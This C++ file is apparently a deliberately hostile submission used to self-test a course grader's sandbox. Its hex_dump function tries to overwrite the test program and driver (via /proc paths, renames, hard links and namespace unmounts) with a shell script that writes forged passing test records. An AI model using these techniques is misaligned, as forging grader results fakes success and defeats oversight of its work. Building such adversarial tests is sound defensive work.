// Hostile submission for the grading self-test (tests/grading/selftest.py; tests/grading/README.md
// lists the set): the reference solution of lesson 01 with hex_dump sabotaged. The grader runs
// every test case afresh: the test program, and the lesson's driver it starts (the student's code
// with the workbook's main(), linked in the student's scratch folder). hex_dump tries every way to
// replace either with a shell script that writes a forged passing record for whatever test case it
// is asked for: writing over it, chmod, renaming a new file over it, unlink then create, a hard
// link, renaming its folder away, and all of it again after unmounting it in a namespace of its
// own; the driver by the path /proc/self/exe names, the test program by /proc/PPID/exe (its
// parent) and as the file `tests` beside the driver. Then it returns a wrong result, which says
// whether a program was replaced. Were one replaced, the grade of every later test case (the second
// hex_dump test case among them) could come from the forgery. encode_utf8, decode_utf8 and
// count_code_points are the reference's, so only the two hex_dump test cases may lose points.
// selftest.py fills in the @...@ placeholders when it copies this file.
//
// selftest.py makes the submission's utf8.cpp from solutions/01-bytes/utf8.cpp: the includes
// below are added to its own, and everything after count_code_points is replaced by the rest of
// this file.
#include <cerrno>
#include <cstring>
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include <string>
#include <vector>
// ---- after count_code_points ----

namespace {

// What the test program is replaced with: for the test case named in $1 (Catch2's escaping of
// \,[]*~" undone, then escaped again for JSON), a start record and a passing end record on the
// grader's descriptor 3, shaped like tests/harness/workbook_reporter.cpp's.
constexpr std::string_view forged_script = R"sh(#!/bin/sh
name=$(printf '%s' "$1" | sed -e 's/\\\(.\)/\1/g' -e 's/\\/\\\\/g' -e 's/"/\\"/g')
printf '{"event":"start","name":"%s"}\n' "$name" >&3
printf '{"event":"end","name":"%s","tags":[],"passed":true,"assertions":{"passed":1,"failed":0},"failures":[],"transcript":"","stdout":"","stderr":""}\n' "$name" >&3
exit 0
)sh";

// Each attempt and its result on the sandbox's stderr (the grader keeps it per test case).
bool report(const std::string& what, int result) {
    const std::string line = "replace-test-binary: " + what + ": " +
                             (result == 0 ? std::string("done") : std::strerror(errno)) + "\n";
    static_cast<void>(::write(2, line.data(), line.size()));
    return result == 0;
}

// Writes the script into `path`, opened with `flags`; 0 on success, else -1 with errno set.
int write_script(const std::string& path, int flags) {
    const int fd = ::open(path.c_str(), flags | O_CLOEXEC, 0755);
    if (fd < 0) return -1;
    const ssize_t written = ::write(fd, forged_script.data(), forged_script.size());
    const int saved = written < 0 ? errno : EIO;
    ::close(fd);
    if (written != static_cast<ssize_t>(forged_script.size())) {
        errno = saved;
        return -1;
    }
    return ::chmod(path.c_str(), 0755);
}

// Every way of putting the script where the next test case's program is. True if one worked.
bool replace(const std::string& target) {
    bool replaced = false;
    replaced |= report("open " + target + " for writing", write_script(target, O_WRONLY | O_TRUNC));
    report("chmod 0777 " + target, ::chmod(target.c_str(), 0777));
    const std::string fresh = target + ".forged";
    ::unlink(fresh.c_str());
    if (write_script(fresh, O_WRONLY | O_CREAT | O_EXCL) == 0)
        replaced |= report("rename a new file over " + target, ::rename(fresh.c_str(), target.c_str()));
    ::unlink(fresh.c_str());
    if (report("unlink " + target, ::unlink(target.c_str())))
        replaced |= report("create " + target + " again", write_script(target, O_WRONLY | O_CREAT | O_EXCL));
    const std::string linked = target + ".hardlink";
    ::unlink(linked.c_str());
    if (report("hard link " + linked + " to " + target, ::link(target.c_str(), linked.c_str())))
        replaced |= report("open the hard link for writing", write_script(linked, O_WRONLY | O_TRUNC));
    const std::string folder = target.substr(0, target.rfind('/'));
    if (!folder.empty() && report("rename the folder " + folder + " away",
                                  ::rename(folder.c_str(), (folder + ".moved").c_str()))) {
        ::mkdir(folder.c_str(), 0755);
        replaced |= report("create " + target + " in a new folder", write_script(target, O_WRONLY | O_CREAT));
    }
    return replaced;
}

// The program /proc/PID/exe names ("" if it cannot be read).
std::string program_of(const std::string& pid) {
    char buffer[4096] = {};
    const ssize_t n = ::readlink(("/proc/" + pid + "/exe").c_str(), buffer, sizeof buffer - 1);
    std::string exe = n > 0 ? std::string(buffer, static_cast<std::size_t>(n)) : std::string();
    constexpr std::string_view deleted = " (deleted)";
    if (exe.ends_with(deleted)) exe.resize(exe.size() - deleted.size());
    report("read the program of " + pid, n > 0 ? 0 : -1);
    return exe;
}

bool attack() {
    std::vector<std::string> targets;
    for (const std::string& exe : {program_of("self"), program_of(std::to_string(::getppid()))})
        if (!exe.empty()) targets.push_back(exe);
    const std::string driver = program_of("self");
    // The test program, were it linked beside the driver (a unit lesson's tests used to be).
    if (!driver.empty()) targets.push_back(driver.substr(0, driver.rfind('/') + 1) + "tests");
    bool replaced = false;
    // Only what exists is attacked: creating a file named `tests` where there was none replaces
    // nothing that runs.
    for (const std::string& target : targets)
        if (::access(target.c_str(), F_OK) == 0) replaced |= replace(target);
    // Again in a user and mount namespace of its own, where it may unmount what covers the program.
    const pid_t child = ::fork();
    if (child == 0) {
        bool done = false;
        if (report("unshare a user and mount namespace", ::unshare(CLONE_NEWUSER | CLONE_NEWNS))) {
            for (const std::string& target : targets) {
                if (::access(target.c_str(), F_OK) != 0) continue;
                report("unmount " + target, ::umount2(target.c_str(), MNT_DETACH));
                done |= replace(target);
            }
        }
        ::_exit(done ? 0 : 1);
    }
    int status = 0;
    if (child > 0 && ::waitpid(child, &status, 0) == child && WIFEXITED(status) && WEXITSTATUS(status) == 0)
        replaced = true;
    return replaced;
}

}  // namespace

std::string hex_dump(std::string_view data) {
    static const bool replaced = attack();  // once per driver: each test case starts its own
    static_cast<void>(data);
    return replaced ? "a program of the tests was replaced by a forgery"
                    : "the test program could not be replaced, nor the driver";
}

}  // namespace bytes
